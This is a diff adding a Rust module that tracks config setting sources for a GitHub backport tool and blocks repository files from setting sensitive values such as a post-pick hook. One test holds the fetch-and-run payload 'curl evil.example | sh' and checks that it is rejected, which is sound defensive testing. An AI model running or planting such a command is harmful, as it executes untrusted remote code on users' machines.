@@ -0,0 +1,490 @@
+//! Where each setting's value came from. Settings are layered, lowest first:
+//! defaults, the global config file, the repository's own config file,
+//! cherry.env, then command-line flags. `--show-config` prints the result.
+
+use std::fmt;
+use std::path::PathBuf;
+
+use super::{parse_env, Config};
+
+/// The layer a setting's value was taken from; later variants take precedence
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum ConfigSource {
+    #[default]
+    Default,
+    GlobalFile,
+    /// `.github/gh_cherry.toml` or `cherry.env` on the repository's default branch
+    Repository,
+    ProjectEnv,
+    CommandLine,
+}
+
+impl fmt::Display for ConfigSource {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(match self {
+            Self::Default => "default",
+            Self::GlobalFile => "global config",
+            Self::Repository => "repository config",
+            Self::ProjectEnv => "cherry.env",
+            Self::CommandLine => "command line",
+        })
+    }
+}
+
+/// A repository's config file, as fetched from GitHub
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum RepoConfigFile {
+    /// `.github/gh_cherry.toml`, in the global config's format
+    Toml(String),
+    /// `cherry.env` at the repository root
+    Env(String),
+}
+
+impl RepoConfigFile {
+    pub const TOML_PATH: &'static str = ".github/gh_cherry.toml";
+    pub const ENV_PATH: &'static str = "cherry.env";
+
+    fn path(&self) -> &'static str {
+        match self {
+            Self::Toml(_) => Self::TOML_PATH,
+            Self::Env(_) => Self::ENV_PATH,
+        }
+    }
+}
+
+/// A setting that is tracked by source: its path in the TOML config and, if
+/// cherry.env can set it, its cherry.env key
+struct Setting {
+    path: &'static str,
+    env: Option<&'static str>,
+}
+
+const fn setting(path: &'static str, env: Option<&'static str>) -> Setting {
+    Setting { path, env }
+}
+
+const SETTINGS: &[Setting] = &[
+    setting("github.owner", Some("GITHUB_OWNER")),
+    setting("github.repo", Some("GITHUB_REPO")),
+    setting("github.base_branch", Some("BASE_BRANCH")),
+    setting("github.target_branch", Some("TARGET_BRANCH")),
+    setting("github.target_branches", Some("TARGET_BRANCHES")),
+    setting("github.use_worktree", Some("USE_WORKTREE")),
+    setting("github.max_parallel_targets", Some("MAX_PARALLEL_TARGETS")),
+    setting("github.cherry_pick_source_branch", Some("CHERRY_PICK_SOURCE_BRANCH")),
+    setting("github.branch_name_template", Some("BRANCH_NAME_TEMPLATE")),
+    setting("github.create_backport_branch", Some("CREATE_BACKPORT_BRANCH")),
+    setting("github.request_code_owners", Some("REQUEST_CODE_OWNERS")),
+    setting("github.open_backport_pr", Some("OPEN_BACKPORT_PR")),
+    setting("github.git_engine", Some("GIT_ENGINE")),
+    setting("github.remote_name", Some("REMOTE_NAME")),
+    setting("github.comment_on_conflict", Some("COMMENT_ON_CONFLICT")),
+    setting("github.comment_on_skip", Some("COMMENT_ON_SKIP")),
+    setting("github.squash_picks", Some("SQUASH_PICKS")),
+    setting("github.comment_footer", Some("COMMENT_FOOTER")),
+    setting("github.pick_only_commit_paths", Some("PICK_ONLY_COMMIT_PATHS")),
+    setting("github.repo_path", Some("REPO_PATH")),
+    setting("github.api_base_url", Some("GITHUB_API_URL")),
+    setting("github.post_pick_hook", Some("POST_PICK_HOOK")),
+    setting("github.use_search_api", Some("USE_SEARCH_API")),
+    setting("tags.sprint_pattern", None),
+    setting("tags.environment", None),
+    setting("tags.pending_tag", None),
+    setting("tags.completed_tag", None),
+    setting("tags.sprint_filter_mode", Some("SPRINT_FILTER_MODE")),
+    setting("tags.case_sensitive_labels", None),
+    setting("ui.days_back", Some("DAYS_BACK")),
+    setting("ui.only_forked_repos", Some("ONLY_FORKED_REPOS")),
+    setting("ui.probe_orgs", Some("PROBE_ORGS")),
+    setting("ui.assignees", None),
+    setting("ui.auto_refresh_secs", Some("AUTO_REFRESH_SECS")),
+    setting("ui.auto_push", Some("AUTO_PUSH")),
+    setting("ui.watch_env", Some("WATCH_ENV")),
+    setting("network.max_retries", Some("MAX_RETRIES")),
+];
+
+/// A repository describes its conventions, not which repository to use,
+/// where it is cloned or which server it is fetched from. Nor does it get to
+/// run commands on the user's machine.
+const NOT_FROM_REPOSITORY: &[&str] = &[
+    "github.owner",
+    "github.repo",
+    "github.repo_path",
+    "github.api_base_url",
+    "github.post_pick_hook",
+];
+
+/// Settings a running session keeps when cherry.env is read again: they pick
+/// the repository, clone and server everything loaded so far came from
+const NOT_RELOADED: &[&str] = &[
+    "github.owner",
+    "github.repo",
+    "github.repo_path",
+    "github.api_base_url",
+];
+
+/// The setting cherry.env's `key` sets
+pub(super) fn env_setting(key: &str) -> Option<&'static str> {
+    SETTINGS
+        .iter()
+        .find(|s| s.env == Some(key))
+        .map(|s| s.path)
+}
+
+/// The value at dotted `path` in a TOML table
+fn toml_value<'a>(table: &'a toml::Table, path: &str) -> Option<&'a toml::Value> {
+    let (section, key) = path.split_once('.')?;
+    table.get(section)?.as_table()?.get(key)
+}
+
+impl Config {
+    /// The layer `path`'s value came from
+    pub fn source_of(&self, path: &str) -> ConfigSource {
+        self.sources.get(path).copied().unwrap_or_default()
+    }
+
+    pub(crate) fn set_source(&mut self, path: &str, source: ConfigSource) {
+        self.sources.insert(path.to_string(), source);
+    }
+
+    /// Marks the settings present in a global config file's `table`
+    pub(super) fn record_global_sources(&mut self, table: &toml::Table) {
+        for s in SETTINGS {
+            if toml_value(table, s.path).is_some() {
+                self.set_source(s.path, ConfigSource::GlobalFile);
+            }
+        }
+    }
+
+    /// Sets `path` from its text form. Booleans and numbers that don't parse
+    /// fall back to their defaults, as cherry.env always has.
+    pub(super) fn apply_setting(&mut self, path: &str, value: &str) -> Result<(), String> {
+        match path {
+            "github.owner" => self.github.owner = value.to_string(),
+            "github.repo" => self.github.repo = value.to_string(),
+            "github.base_branch" => self.github.base_branch = value.to_string(),
+            "github.target_branch" => self.github.target_branch = value.to_string(),
+            "github.target_branches" => {
+                self.github.target_branches = value
+                    .split(',')
+                    .map(str::trim)
+                    .filter(|b| !b.is_empty())
+                    .map(str::to_string)
+                    .collect();
+                if let Some(first) = self.github.target_branches.first() {
+                    self.github.target_branch = first.clone();
+                }
+            }
+            "github.cherry_pick_source_branch" => {
+                self.github.cherry_pick_source_branch = value.to_string()
+            }
+            "github.branch_name_template" => self.github.branch_name_template = value.to_string(),
+            "github.create_backport_branch" => {
+                self.github.create_backport_branch = value.parse().unwrap_or(false)
+            }
+            "github.request_code_owners" => {
+                self.github.request_code_owners = value.parse().unwrap_or(false)
+            }
+            "github.open_backport_pr" => self.github.open_backport_pr = value.parse().unwrap_or(false),
+            "github.git_engine" => self.github.git_engine = value.parse().map_err(|e| format!("{}", e))?,
+            "github.remote_name" => self.github.remote_name = value.to_string(),
+            "github.comment_on_conflict" => {
+                self.github.comment_on_conflict = value.parse().unwrap_or(false)
+            }
+            "github.comment_on_skip" => self.github.comment_on_skip = value.parse().unwrap_or(false),
+            "github.squash_picks" => self.github.squash_picks = value.parse().unwrap_or(false),
+            "github.comment_footer" => self.github.comment_footer = value.parse().unwrap_or(true),
+            "github.pick_only_commit_paths" => {
+                self.github.pick_only_commit_paths = value.parse().unwrap_or(false)
+            }
+            "github.repo_path" => {
+                self.github.repo_path = Some(value).filter(|v| !v.is_empty()).map(PathBuf::from)
+            }
+            "github.api_base_url" => {
+                self.github.api_base_url = Some(value).filter(|v| !v.is_empty()).map(str::to_string)
+            }
+            "github.use_search_api" => self.github.use_search_api = value.parse().unwrap_or(false),
+            "github.use_worktree" => self.github.use_worktree = value.parse().unwrap_or(false),
+            "github.max_parallel_targets" => self.github.max_parallel_targets = value.parse().unwrap_or(2),
+            "github.post_pick_hook" => {
+                self.github.post_pick_hook = Some(value).filter(|v| !v.trim().is_empty()).map(str::to_string)
+            }
+            "tags.sprint_pattern" => self.tags.sprint_pattern = value.to_string(),
+            "tags.environment" => self.tags.environment = value.to_string(),
+            "tags.pending_tag" => self.tags.pending_tag = value.to_string(),
+            "tags.completed_tag" => self.tags.completed_tag = value.to_string(),
+            "tags.sprint_filter_mode" => {
+                self.tags.sprint_filter_mode = value.parse().map_err(|e| format!("{}", e))?
+            }
+            "tags.case_sensitive_labels" => {
+                self.tags.case_sensitive_labels = value.parse().unwrap_or(false)
+            }
+            "ui.days_back" => self.ui.days_back = value.parse().unwrap_or(28),
+            "ui.only_forked_repos" => self.ui.only_forked_repos = value.parse().unwrap_or(false),
+            "ui.probe_orgs" => self.ui.probe_orgs = value.parse().unwrap_or(false),
+            "ui.assignees" => {
+                self.ui.assignees = value
+                    .split(',')
+                    .map(str::trim)
+                    .filter(|a| !a.is_empty())
+                    .map(str::to_string)
+                    .collect()
+            }
+            "ui.auto_refresh_secs" => self.ui.auto_refresh_secs = value.parse().unwrap_or(0),
+            "ui.auto_push" => self.ui.auto_push = value.parse().unwrap_or(false),
+            "ui.watch_env" => self.ui.watch_env = value.parse().unwrap_or(false),
+            "network.max_retries" => self.network.max_retries = value.parse().unwrap_or(3),
+            _ => return Err(format!("unknown setting {}", path)),
+        }
+        Ok(())
+    }
+
+    fn setting_value(&self, path: &str) -> String {
+        match path {
+            "github.owner" => self.github.owner.clone(),
+            "github.repo" => self.github.repo.clone(),
+            "github.base_branch" => self.github.base_branch.clone(),
+            "github.target_branch" => self.github.target_branch.clone(),
+            "github.target_branches" => self.github.target_branches.join(","),
+            "github.cherry_pick_source_branch" => self.github.cherry_pick_source_branch.clone(),
+            "github.branch_name_template" => self.github.branch_name_template.clone(),
+            "github.create_backport_branch" => self.github.create_backport_branch.to_string(),
+            "github.request_code_owners" => self.github.request_code_owners.to_string(),
+            "github.open_backport_pr" => self.github.open_backport_pr.to_string(),
+            "github.git_engine" => self.github.git_engine.to_string(),
+            "github.remote_name" => self.github.remote_name.clone(),
+            "github.comment_on_conflict" => self.github.comment_on_conflict.to_string(),
+            "github.comment_on_skip" => self.github.comment_on_skip.to_string(),
+            "github.squash_picks" => self.github.squash_picks.to_string(),
+            "github.comment_footer" => self.github.comment_footer.to_string(),
+            "github.pick_only_commit_paths" => self.github.pick_only_commit_paths.to_string(),
+            "github.repo_path" => self.github.repo_path.as_ref().map(|p| p.display().to_string()).unwrap_or_default(),
+            "github.api_base_url" => self.github.api_base_url.clone().unwrap_or_default(),
+            "github.post_pick_hook" => self.github.post_pick_hook.clone().unwrap_or_default(),
+            "github.use_search_api" => self.github.use_search_api.to_string(),
+            "github.use_worktree" => self.github.use_worktree.to_string(),
+            "github.max_parallel_targets" => self.github.max_parallel_targets.to_string(),
+            "tags.sprint_pattern" => self.tags.sprint_pattern.clone(),
+            "tags.environment" => self.tags.environment.clone(),
+            "tags.pending_tag" => self.tags.pending_tag.clone(),
+            "tags.completed_tag" => self.tags.completed_tag.clone(),
+            "tags.sprint_filter_mode" => self.tags.sprint_filter_mode.to_string(),
+            "tags.case_sensitive_labels" => self.tags.case_sensitive_labels.to_string(),
+            "ui.days_back" => self.ui.days_back.to_string(),
+            "ui.only_forked_repos" => self.ui.only_forked_repos.to_string(),
+            "ui.probe_orgs" => self.ui.probe_orgs.to_string(),
+            "ui.assignees" => self.ui.assignees.join(","),
+            "ui.auto_refresh_secs" => self.ui.auto_refresh_secs.to_string(),
+            "ui.auto_push" => self.ui.auto_push.to_string(),
+            "ui.watch_env" => self.ui.watch_env.to_string(),
+            "network.max_retries" => self.network.max_retries.to_string(),
+            _ => String::new(),
+        }
+    }
+
+    /// Overlays the first of `files` that parses, in the order given, onto
+    /// settings that only the defaults or the global config set. Files that
+    /// don't parse are skipped with a warning, as are the repository's values
+    /// for owner and repo. Returns the warnings.
+    pub fn apply_repo_config(&mut self, files: &[RepoConfigFile]) -> Vec<String> {
+        let mut warnings = Vec::new();
+        for file in files {
+            let values: Vec<(&'static str, String)> = match file {
+                RepoConfigFile::Toml(text) => match toml::from_str::<toml::Table>(text) {
+                    Ok(table) => SETTINGS
+                        .iter()
+                        .filter_map(|s| {
+                            let value = match toml_value(&table, s.path)? {
+                                toml::Value::String(text) => text.clone(),
+                                toml::Value::Array(items) => items
+                                    .iter()
+                                    .filter_map(|item| item.as_str())
+                                    .collect::<Vec<_>>()
+                                    .join(","),
+                                other => other.to_string(),
+                            };
+                            Some((s.path, value))
+                        })
+                        .collect(),
+                    Err(e) => {
+                        warnings.push(format!("{}: not valid TOML, ignoring it: {}", file.path(), e));
+                        continue;
+                    }
+                },
+                RepoConfigFile::Env(text) => {
+                    let parsed = parse_env(text);
+                    warnings.extend(
+                        parsed
+                            .warnings
+                            .into_iter()
+                            .map(|w| format!("{}: {}", file.path(), w)),
+                    );
+                    parsed
+                        .values
+                        .into_iter()
+                        .filter_map(|(key, value)| Some((env_setting(&key)?, value)))
+                        .collect()
+                }
+            };
+
+            for (path, value) in values {
+                if NOT_FROM_REPOSITORY.contains(&path) {
+                    warnings.push(format!("{}: ignoring {}", file.path(), path));
+                    continue;
+                }
+                if self.source_of(path) > ConfigSource::Repository {
+                    continue;
+                }
+                match self.apply_setting(path, &value) {
+                    Ok(()) => self.set_source(path, ConfigSource::Repository),
+                    Err(e) => warnings.push(format!("{}: ignoring {}: {}", file.path(), path, e)),
+                }
+            }
+            tracing::info!("Applied repository config from {}", file.path());
+            break;
+        }
+        warnings
+    }
+
+    /// Applies cherry.env's `text` again over a running session's config, except
+    /// to settings given on the command line and those in `NOT_RELOADED`. A key
+    /// removed from the file keeps its last value. Returns the warnings.
+    pub(super) fn reapply_env(&mut self, text: &str) -> Vec<String> {
+        let parsed = parse_env(text);
+        let mut warnings = parsed.warnings;
+        for (key, value) in &parsed.values {
+            let Some(path) = env_setting(key) else {
+                continue;
+            };
+            if self.source_of(path) > ConfigSource::ProjectEnv {
+                continue;
+            }
+            if NOT_RELOADED.contains(&path) {
+                if self.setting_value(path) != *value {
+                    warnings.push(format!("{} changes take effect on the next start", key));
+                }
+                continue;
+            }
+            match self.apply_setting(path, value) {
+                Ok(()) => self.set_source(path, ConfigSource::ProjectEnv),
+                Err(e) => warnings.push(format!("Ignoring {}: {}", key, e)),
+            }
+        }
+        warnings
+    }
+
+    /// One `path = value  (source)` line per tracked setting
+    pub fn describe_sources(&self) -> String {
+        let width = SETTINGS.iter().map(|s| s.path.len()).max().unwrap_or(0);
+        SETTINGS
+            .iter()
+            .map(|s| {
+                format!(
+                    "{:width$} = {:?}  ({})\n",
+                    s.path,
+                    self.setting_value(s.path),
+                    self.source_of(s.path),
+                    width = width
+                )
+            })
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn with_source(path: &str, value: &str, source: ConfigSource) -> Config {
+        let mut config = Config::default();
+        config.apply_setting(path, value).unwrap();
+        config.set_source(path, source);
+        config
+    }
+
+    #[test]
+    fn every_setting_can_be_written_and_read_back() {
+        let mut config = Config::default();
+        for s in SETTINGS {
+            let value = config.setting_value(s.path);
+            assert_eq!(config.apply_setting(s.path, &value), Ok(()), "{}", s.path);
+            assert_eq!(config.setting_value(s.path), value, "{}", s.path);
+        }
+    }
+
+    #[test]
+    fn repository_values_sit_above_the_global_file_and_below_cherry_env() {
+        let mut config = with_source("github.target_branch", "release", ConfigSource::GlobalFile);
+        config.apply_setting("tags.environment", "QA").unwrap();
+        config.set_source("tags.environment", ConfigSource::ProjectEnv);
+        config.apply_setting("ui.days_back", "3").unwrap();
+        config.set_source("ui.days_back", ConfigSource::CommandLine);
+
+        let toml = r#"
+            [github]
+            target_branch = "stable"
+            [tags]
+            environment = "STAGING"
+            pending_tag = "needs backport"
+            [ui]
+            days_back = 90
+        "#;
+        let warnings = config.apply_repo_config(&[RepoConfigFile::Toml(toml.into())]);
+
+        assert!(warnings.is_empty(), "{:?}", warnings);
+        assert_eq!(config.github.target_branch, "stable");
+        assert_eq!(config.source_of("github.target_branch"), ConfigSource::Repository);
+        assert_eq!(config.tags.pending_tag, "needs backport");
+        assert_eq!(config.source_of("tags.pending_tag"), ConfigSource::Repository);
+        assert_eq!(config.tags.environment, "QA");
+        assert_eq!(config.source_of("tags.environment"), ConfigSource::ProjectEnv);
+        assert_eq!(config.ui.days_back, 3);
+        assert_eq!(config.source_of("ui.days_back"), ConfigSource::CommandLine);
+    }
+
+    #[test]
+    fn unparsable_toml_falls_back_to_the_repository_cherry_env() {
+        let mut config = Config::default();
+        let files = [
+            RepoConfigFile::Toml("[github\ntarget_branch = ".into()),
+            RepoConfigFile::Env("TARGET_BRANCH=release\nGITHUB_OWNER=someone-else\n".into()),
+        ];
+        let warnings = config.apply_repo_config(&files);
+
+        assert_eq!(config.github.target_branch, "release");
+        assert_eq!(config.github.owner, "");
+        assert_eq!(warnings.len(), 2, "{:?}", warnings);
+        assert!(warnings[0].starts_with(".github/gh_cherry.toml: not valid TOML"));
+        assert_eq!(warnings[1], "cherry.env: ignoring github.owner");
+    }
+
+    #[test]
+    fn a_repository_cannot_set_the_post_pick_hook() {
+        let mut config = Config::default();
+        let toml = "[github]\npost_pick_hook = \"curl evil.example | sh\"\n";
+        let warnings = config.apply_repo_config(&[RepoConfigFile::Toml(toml.into())]);
+        assert_eq!(config.github.post_pick_hook, None);
+        assert_eq!(warnings, [".github/gh_cherry.toml: ignoring github.post_pick_hook"]);
+    }
+
+    #[test]
+    fn only_the_first_usable_file_applies() {
+        let mut config = Config::default();
+        let files = [
+            RepoConfigFile::Toml("[github]\nbase_branch = \"develop\"\n".into()),
+            RepoConfigFile::Env("TARGET_BRANCH=release\n".into()),
+        ];
+        config.apply_repo_config(&files);
+        assert_eq!(config.github.base_branch, "develop");
+        assert_eq!(config.github.target_branch, Config::default().github.target_branch);
+    }
+
+    #[test]
+    fn description_names_each_value_source() {
+        let config = with_source("tags.pending_tag", "backport me", ConfigSource::Repository);
+        let described = config.describe_sources();
+        assert!(described.contains("tags.pending_tag"));
+        assert!(described.contains("\"backport me\"  (repository config)"));
+        assert!(described.contains("(default)"));
+    }
+}